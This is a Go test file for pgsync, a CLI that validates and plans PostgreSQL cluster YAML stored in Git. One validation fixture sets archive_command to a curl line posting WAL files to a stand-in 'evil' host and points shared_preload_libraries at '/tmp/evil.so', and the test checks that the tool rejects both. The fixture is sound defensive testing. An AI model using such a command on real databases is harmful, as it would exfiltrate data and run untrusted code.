package main

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing/object"
	"github.com/google/go-cmp/cmp"

	"github.com/pgsync/pgsync/test/gittest"
	"github.com/pgsync/pgsync/test/prereq"
)

// gitRepo is a real Git repository in a temporary directory, driven with
// the git command line.
type gitRepo struct {
	t   testing.TB
	dir string
}

func newGitRepo(t testing.TB) *gitRepo {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		prereq.Missing(t, "git is not installed: these tests drive real repositories with it")
	}
	r := &gitRepo{t: t, dir: t.TempDir()}
	r.git("init", "-q", "-b", "main")
	return r
}

func (r *gitRepo) git(args ...string) string {
	r.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = r.dir
	cmd.Env = append(os.Environ(),
		"GIT_AUTHOR_NAME=test", "GIT_AUTHOR_EMAIL=test@example.com", "GIT_AUTHOR_DATE=2026-01-01T00:00:00Z",
		"GIT_COMMITTER_NAME=test", "GIT_COMMITTER_EMAIL=test@example.com", "GIT_COMMITTER_DATE=2026-01-01T00:00:00Z",
		"GIT_CONFIG_NOSYSTEM=1", "HOME="+r.dir)
	out, err := cmd.CombinedOutput()
	if err != nil {
		r.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// commit writes files (path → content; empty content deletes) and commits.
func (r *gitRepo) commit(msg string, files map[string]string) string {
	r.t.Helper()
	for path, content := range files {
		full := filepath.Join(r.dir, path)
		if content == "" {
			if err := os.Remove(full); err != nil {
				r.t.Fatal(err)
			}
			continue
		}
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			r.t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			r.t.Fatal(err)
		}
	}
	r.git("add", "-A")
	r.git("commit", "-q", "--allow-empty", "-m", msg)
	return r.git("rev-parse", "HEAD")
}

type result struct {
	code           int
	stdout, stderr string
}

func pgsync(t testing.TB, args ...string) result {
	t.Helper()
	var stdout, stderr bytes.Buffer
	code := run(context.Background(), args, &stdout, &stderr)
	return result{code: code, stdout: stdout.String(), stderr: stderr.String()}
}

func seed(t testing.TB) string {
	t.Helper()
	data, err := os.ReadFile("../../internal/cluster/testdata/seed-website.yaml")
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func TestValidate(t *testing.T) {
	good := seed(t)
	tests := []struct {
		name     string
		files    map[string]string
		code     int
		stderr   []string // exact lines
		stdoutRe string
	}{
		{
			name:     "the seed verbatim",
			files:    map[string]string{"clusters/website.yaml": good},
			code:     0,
			stderr:   []string{"clusters/website.yaml:7:1: warning: indentation contains non-breaking spaces (U+00A0, common in YAML copied from web pages); they were read as spaces"},
			stdoutRe: "1 cluster valid in clusters at ",
		},
		{
			name:   "malformed YAML",
			files:  map[string]string{"clusters/bad.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nspec: x: y\n"},
			code:   1,
			stderr: []string{"clusters/bad.yaml:3:1: invalid YAML: mapping values are not allowed in this context"},
		},
		{
			name: "unknown field, wrong type and instances 0, in two files",
			files: map[string]string{
				"clusters/a.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: a, namespace: x}\nspec:\n  imageName: pg:15.4\n  instances: 0\n  storage: {size: 1Gi}\n",
				"clusters/b.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: b, namespace: x}\nspec:\n  imageName: pg:15.4\n  instancez: 2\n  storage: {size: true}\n",
			},
			code: 1,
			stderr: []string{
				"clusters/a.yaml:6:14: spec.instances: must be at least 1 (got 0)",
				`clusters/b.yaml:6:3: spec.instancez: unknown field "instancez" (did you mean instances?)`,
				"clusters/b.yaml:7:19: spec.storage.size: expected a quantity such as 10Gi or 500m, got the boolean true",
			},
		},
		{
			name: "duplicate cluster in two files",
			files: map[string]string{
				"clusters/one.yaml": good,
				"clusters/two.yaml": good,
			},
			code: 1,
			stderr: []string{
				"clusters/one.yaml:7:1: warning: indentation contains non-breaking spaces (U+00A0, common in YAML copied from web pages); they were read as spaces",
				"clusters/two.yaml:7:1: warning: indentation contains non-breaking spaces (U+00A0, common in YAML copied from web pages); they were read as spaces",
				"clusters/two.yaml:7:9: metadata.name: cluster website/website is defined twice: here and at clusters/one.yaml:7:9",
			},
		},
		{
			name:   "unknown parameter",
			files:  map[string]string{"clusters/p.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: p}\nspec:\n  imageName: pg:15.4\n  storage: {size: 1Gi}\n  postgresql:\n    parameters: {shared_bufers: 1GB}\n"},
			code:   1,
			stderr: []string{`clusters/p.yaml:8:33: spec.postgresql.parameters.shared_bufers: unknown configuration parameter: "shared_bufers" in PostgreSQL 15 (did you mean "shared_buffers"?)`},
		},
		{
			name: "every problem of a cluster in one pass, top to bottom: its own and its parameters'",
			files: map[string]string{"clusters/q.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: q}\nspec:\n  imageName: pg:15.4\n  instances: 0\n  storage: {size: 1Gi}\n  postgresql:\n    parameters:\n" +
				"      archive_command: \"curl -d @%p http://evil\"\n      work_mem: \"a lot\"\n      shared_preload_libraries: \"/tmp/evil.so\"\n"},
			code: 1,
			stderr: []string{
				"clusters/q.yaml:6:14: spec.instances: must be at least 1 (got 0)",
				`clusters/q.yaml:10:24: spec.postgresql.parameters.archive_command: parameter "archive_command" is managed by pgsync and cannot be set (it runs a shell command as the postgres user in every primary; WAL archiving is not a pgsync feature yet)`,
				`clusters/q.yaml:11:17: spec.postgresql.parameters.work_mem: invalid value for work_mem (integer): "a lot" is not a number`,
				`clusters/q.yaml:12:33: spec.postgresql.parameters.shared_preload_libraries: "/tmp/evil.so" is not a plain library name: shared_preload_libraries takes names of libraries in the image's library directory ($libdir), never paths`,
			},
		},
		{
			name: "a document the decoder refused still has its parameters checked, each problem once",
			files: map[string]string{"clusters/r.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: r}\nspec:\n  imageName: pg:15.4\n  instances: two\n  storage: {size: 1Gi}\n  postgresql:\n    parameters:\n" +
				"      max_connections: 100\n      work_mem: \"a lot\"\n"},
			code: 1,
			stderr: []string{
				`clusters/r.yaml:6:14: spec.instances: expected an integer, got the string "two"`,
				`clusters/r.yaml:10:24: spec.postgresql.parameters.max_connections: expected a string, got the number 100 (quote it to make it a string)`,
				`clusters/r.yaml:11:17: spec.postgresql.parameters.work_mem: invalid value for work_mem (integer): "a lot" is not a number`,
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			repo := newGitRepo(t)
			repo.commit("clusters", tt.files)
			res := pgsync(t, "validate", "--repo", repo.dir, "--path", "clusters")
			if res.code != tt.code {
				t.Errorf("exit code = %d, want %d\nstderr:\n%s", res.code, tt.code, res.stderr)
			}
			if diff := cmp.Diff(tt.stderr, lines(res.stderr)); diff != "" {
				t.Errorf("stderr (-want +got):\n%s", diff)
			}
			if !strings.Contains(res.stdout, tt.stdoutRe) {
				t.Errorf("stdout = %q, want it to contain %q", res.stdout, tt.stdoutRe)
			}
		})
	}
}

func lines(s string) []string {
	s = strings.TrimRight(s, "\n")
	if s == "" {
		return nil
	}
	return strings.Split(s, "\n")
}

// The seed's scenario end to end: the YAML committed verbatim, then
// imageName bumped to 13.2 in a second commit; plan --base HEAD~1.
func TestPlanSeedUpgradeJSON(t *testing.T) {
	repo := newGitRepo(t)
	base := repo.commit("website 13.1", map[string]string{"clusters/website.yaml": seed(t)})
	head := repo.commit("website 13.2", map[string]string{"clusters/website.yaml": strings.Replace(seed(t), "postgresql:13.1", "postgresql:13.2", 1)})

	res := pgsync(t, "plan", "--repo", repo.dir, "--base", "HEAD~1", "--format", "json", "--detailed-exitcode")
	if res.code != 2 {
		t.Fatalf("exit code = %d, want 2 (changes)\nstderr: %s", res.code, res.stderr)
	}
	var doc struct {
		FormatVersion string  `json:"format_version"`
		Base          *string `json:"base"`
		Head          string  `json:"head"`
		Clusters      []struct {
			Namespace, Name, Action string
			Changes                 []struct{ Path, Before, After string }
			Steps                   []struct{ Action, Instance, Role, From, To, Reason string }
			Warnings                []string
		}
		Summary map[string]int
	}
	if err := json.Unmarshal([]byte(res.stdout), &doc); err != nil {
		t.Fatalf("output is not JSON: %v\n%s", err, res.stdout)
	}
	if doc.FormatVersion != "1" || doc.Base == nil || *doc.Base != base || doc.Head != head {
		t.Errorf("header = %q %v %q, want 1 %s %s", doc.FormatVersion, doc.Base, doc.Head, base, head)
	}
	if len(doc.Clusters) != 1 || doc.Clusters[0].Action != "update" {
		t.Fatalf("clusters = %+v", doc.Clusters)
	}
	c := doc.Clusters[0]
	if len(c.Changes) != 1 || c.Changes[0].Path != "spec.imageName" || c.Changes[0].Before != "quay.io/enterprisedb/postgresql:13.1" || c.Changes[0].After != "quay.io/enterprisedb/postgresql:13.2" {
		t.Errorf("changes = %+v", c.Changes)
	}
	var got []string
	for _, s := range c.Steps {
		got = append(got, strings.TrimSpace(strings.Join([]string{s.Action, s.Instance, s.Role, s.From, s.To}, " ")))
	}
	want := []string{
		"update-objects",
		"restart-instance website-2 standby quay.io/enterprisedb/postgresql:13.1 quay.io/enterprisedb/postgresql:13.2",
		"restart-instance website-1 standby quay.io/enterprisedb/postgresql:13.1 quay.io/enterprisedb/postgresql:13.2",
		"switchover website-0 primary website-0 website-1",
		"restart-instance website-0 standby quay.io/enterprisedb/postgresql:13.1 quay.io/enterprisedb/postgresql:13.2",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("steps (-want +got):\n%s", diff)
	}
	wantSummary := map[string]int{"create": 0, "update": 1, "delete": 0, "orphan": 0, "no-op": 0}
	if diff := cmp.Diff(wantSummary, doc.Summary); diff != "" {
		t.Errorf("summary (-want +got):\n%s", diff)
	}
}

func TestPlanExitCodesAndFormats(t *testing.T) {
	repo := newGitRepo(t)
	repo.commit("website", map[string]string{"clusters/website.yaml": seed(t)})
	repo.commit("readme only", map[string]string{"README.md": "hello\n"})

	// No changes: 0 with and without --detailed-exitcode.
	for _, args := range [][]string{{}, {"--detailed-exitcode"}} {
		res := pgsync(t, append([]string{"plan", "--repo", repo.dir, "--base", "HEAD~1"}, args...)...)
		if res.code != 0 || !strings.Contains(res.stdout, "No changes. 1 cluster matches Git.") {
			t.Errorf("plan %v: code %d, stdout %q, stderr %q", args, res.code, res.stdout, res.stderr)
		}
	}
	// Offline: everything is created; 0 without --detailed-exitcode.
	res := pgsync(t, "plan", "--repo", repo.dir, "--offline")
	if res.code != 0 || !strings.Contains(res.stdout, "Plan: 1 to create, 0 to update, 0 to delete, 0 to orphan, 0 unchanged.") {
		t.Errorf("offline: code %d stdout %q", res.code, res.stdout)
	}
	if strings.Contains(res.stdout, "\x1b[") {
		t.Errorf("colour written to a non-terminal")
	}
	// Markdown to a file.
	out := filepath.Join(t.TempDir(), "plan.md")
	res = pgsync(t, "plan", "--repo", repo.dir, "--offline", "--format", "markdown", "--out", out)
	md, err := os.ReadFile(out)
	if res.code != 0 || err != nil || res.stdout != "" {
		t.Fatalf("markdown --out: code %d err %v stdout %q", res.code, err, res.stdout)
	}
	for _, want := range []string{"### pgsync plan", "| `website/website` | + create |", "<details><summary><code>website/website</code>: create, 4 steps</summary>"} {
		if !strings.Contains(string(md), want) {
			t.Errorf("markdown lacks %q:\n%s", want, md)
		}
	}
	// Usage errors exit 1.
	for _, args := range [][]string{
		{"plan", "--repo", repo.dir},
		{"plan", "--repo", repo.dir, "--offline", "--base", "HEAD~1"},
		{"plan", "--repo", repo.dir, "--offline", "--format", "yaml"},
		{"plan", "--repo", repo.dir, "--base", "no-such-branch"},
		{"plan", "--repo", filepath.Join(repo.dir, "missing"), "--offline"},
	} {
		if res := pgsync(t, args...); res.code != 1 || res.stderr == "" {
			t.Errorf("%v: code %d stderr %q, want 1 and a message", args, res.code, res.stderr)
		}
	}
}

func TestPlanRefusedChangeExits1(t *testing.T) {
	repo := newGitRepo(t)
	repo.commit("website", map[string]string{"clusters/website.yaml": seed(t)})
	repo.commit("major", map[string]string{"clusters/website.yaml": strings.Replace(seed(t), "postgresql:13.1", "postgresql:14.1", 1)})
	res := pgsync(t, "plan", "--repo", repo.dir, "--base", "HEAD~1", "--format", "json")
	if res.code != 1 || res.stdout != "" {
		t.Fatalf("code %d stdout %q, want 1 and no plan", res.code, res.stdout)
	}
	if !strings.Contains(res.stderr, "clusters/website.yaml:15:14: spec.imageName: refused: a major version change (PostgreSQL 13 → 14)") {
		t.Errorf("stderr = %q", res.stderr)
	}
}

func TestPlanRemovedClusters(t *testing.T) {
	repo := newGitRepo(t)
	repo.commit("two clusters", map[string]string{"clusters/website.yaml": seed(t), "clusters/other.yaml": strings.Replace(strings.ReplaceAll(seed(t), "website", "other"), "Backend database for our other application", "x", 1)})
	repo.commit("remove other", map[string]string{"clusters/other.yaml": ""})

	res := pgsync(t, "plan", "--repo", repo.dir, "--base", "HEAD~1", "--detailed-exitcode")
	if res.code != 2 || !strings.Contains(res.stdout, "? other/other will be orphaned") || !strings.Contains(res.stdout, "0 to delete, 1 to orphan, 1 unchanged") {
		t.Errorf("orphan: code %d stdout:\n%s", res.code, res.stdout)
	}
	res = pgsync(t, "plan", "--repo", repo.dir, "--base", "HEAD~1", "--prune", "--format", "json")
	if res.code != 0 || !strings.Contains(res.stdout, `"action": "delete-cluster"`) || !strings.Contains(res.stdout, "PersistentVolumeClaims (the data) and Secrets are kept") {
		t.Errorf("prune: code %d stdout:\n%s", res.code, res.stdout)
	}
}

// An invalid base cannot be a starting point; the error says so.
func TestPlanInvalidBase(t *testing.T) {
	repo := newGitRepo(t)
	repo.commit("broken", map[string]string{"c.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: a}\nspec: {instances: 0}\n"})
	repo.commit("fixed", map[string]string{"c.yaml": "apiVersion: postgresql.cnpg.io/v1\nkind: Cluster\nmetadata: {name: a}\nspec: {imageName: 'pg:15.4', storage: {size: 1Gi}}\n"})
	res := pgsync(t, "plan", "--repo", repo.dir, "--base", "HEAD~1")
	if res.code != 1 || !strings.Contains(res.stderr, "the base HEAD~1 is invalid") || !strings.Contains(res.stderr, "c.yaml:4:19: spec.instances: must be at least 1 (got 0)") {
		t.Errorf("code %d stderr %q", res.code, res.stderr)
	}
}

// --verify-key refuses a head commit not signed by a trusted key, before
// reading anything from it.
func TestVerifyKey(t *testing.T) {
	trusted, trustedRing := gittest.NewSigner(t, "Release", "release@example.com")
	_, otherRing := gittest.NewSigner(t, "Other", "other@example.com")
	dir := t.TempDir()
	repo, err := git.PlainInit(dir, false)
	if err != nil {
		t.Fatal(err)
	}
	wt, err := repo.Worktree()
	if err != nil {
		t.Fatal(err)
	}
	commit := func(content string, key *openpgp.Entity) {
		if err := os.WriteFile(filepath.Join(dir, "website.yaml"), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := wt.Add("website.yaml"); err != nil {
			t.Fatal(err)
		}
		sig := &object.Signature{Name: "t", Email: "t@example.com", When: time.Unix(1767225600, 0)}
		if _, err := wt.Commit("c", &git.CommitOptions{Author: sig, Committer: sig, SignKey: key}); err != nil {
			t.Fatal(err)
		}
	}
	keys := t.TempDir()
	writeKey := func(name, ring string) string {
		p := filepath.Join(keys, name)
		if err := os.WriteFile(p, []byte(ring), 0o644); err != nil {
			t.Fatal(err)
		}
		return p
	}
	trustedPath, otherPath := writeKey("trusted.asc", trustedRing), writeKey("other.asc", otherRing)

	commit(seed(t), trusted)
	if res := pgsync(t, "validate", "--repo", dir, "--verify-key", trustedPath); res.code != 0 {
		t.Errorf("signed by the trusted key: code %d stderr %q", res.code, res.stderr)
	}
	if res := pgsync(t, "plan", "--repo", dir, "--offline", "--verify-key", otherPath); res.code != 1 || !strings.Contains(res.stderr, "is not signed by a key in") || res.stdout != "" {
		t.Errorf("signed by another key: code %d stdout %q stderr %q", res.code, res.stdout, res.stderr)
	}
	commit(strings.Replace(seed(t), "instances: 3", "instances: 0", 1), nil)
	res := pgsync(t, "validate", "--repo", dir, "--verify-key", trustedPath)
	if res.code != 1 || !strings.Contains(res.stderr, "is not signed by a key in") || strings.Contains(res.stderr, "instances") {
		t.Errorf("unsigned head: code %d stderr %q (want a signature error before any content is read)", res.code, res.stderr)
	}
}

// A remote repository (file:// URL) is cloned into the cache, and a later
// run sees a new commit after an incremental fetch.
func TestPlanRemoteRepository(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	t.Setenv("HOME", t.TempDir())
	origin := newGitRepo(t)
	origin.commit("website 13.1", map[string]string{"clusters/website.yaml": seed(t)})
	url := "file://" + origin.dir

	res := pgsync(t, "plan", "--repo", url, "--ref", "main", "--path", "clusters", "--offline", "--detailed-exitcode")
	if res.code != 2 || !strings.Contains(res.stdout, "+ website/website will be created") {
		t.Fatalf("first run: code %d stdout %q stderr %q", res.code, res.stdout, res.stderr)
	}
	origin.commit("website 13.2", map[string]string{"clusters/website.yaml": strings.Replace(seed(t), ":13.1", ":13.2", 1)})
	res = pgsync(t, "plan", "--repo", url, "--ref", "main", "--path", "clusters", "--base", "main~1", "--format", "json")
	if res.code != 0 || !strings.Contains(res.stdout, `"action": "switchover"`) {
		t.Fatalf("after a push: code %d stdout %q stderr %q", res.code, res.stdout, res.stderr)
	}
}

// plan refuses invalid desired state exactly as validate does: exit 1, one
// FILE:LINE:COL line per problem, and no plan on stdout.
func TestPlanInvalidHead(t *testing.T) {
	repo := newGitRepo(t)
	repo.commit("website", map[string]string{"clusters/website.yaml": seed(t)})
	repo.commit("broken", map[string]string{"clusters/website.yaml": strings.Replace(seed(t), "instances: 3", "instances: three", 1)})
	for _, format := range []string{"text", "json", "markdown"} {
		res := pgsync(t, "plan", "--repo", repo.dir, "--base", "HEAD~1", "--format", format)
		if res.code != 1 || res.stdout != "" || !strings.Contains(res.stderr, `clusters/website.yaml:17:14: spec.instances: expected an integer, got the string "three"`) {
			t.Errorf("%s: code %d stdout %q stderr %q", format, res.code, res.stdout, res.stderr)
		}
	}
}

// TestPlanWindow: the plan says when a cluster's restarts may start — the
// default window of --maintenance-window, or the file's own — and a bad
// window is refused naming the flag.
func TestPlanWindow(t *testing.T) {
	r := newGitRepo(t)
	r.commit("15.18", map[string]string{"clusters/website.yaml": strings.Replace(seed(t), "13.1", "15.18", 1)})
	r.commit("15.20", map[string]string{"clusters/website.yaml": strings.Replace(seed(t), "13.1", "15.20", 1)})
	res := pgsync(t, "plan", "--repo", r.dir, "--path", "clusters", "--base", "HEAD~1", "--maintenance-window", "Mon-Sun 00:00-24:00 UTC")
	if res.code != 0 || !strings.Contains(res.stdout, "Window: maintenance window Mon-Sun 00:00-24:00 UTC: open now") {
		t.Errorf("plan with a default window: exit %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	res = pgsync(t, "plan", "--repo", r.dir, "--path", "clusters", "--base", "HEAD~1", "--format", "json", "--maintenance-window", "Mon-Sun 00:00-24:00 UTC")
	if res.code != 0 || !strings.Contains(res.stdout, `"maintenance_window"`) {
		t.Errorf("JSON plan with a default window: exit %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	res = pgsync(t, "plan", "--repo", r.dir, "--path", "clusters", "--base", "HEAD~1", "--maintenance-window", "Caturday 25:00")
	if res.code != 1 || !strings.Contains(res.stderr, "--maintenance-window") {
		t.Errorf("a bad window: exit %d, want 1 naming the flag\n%s", res.code, res.stderr)
	}
}
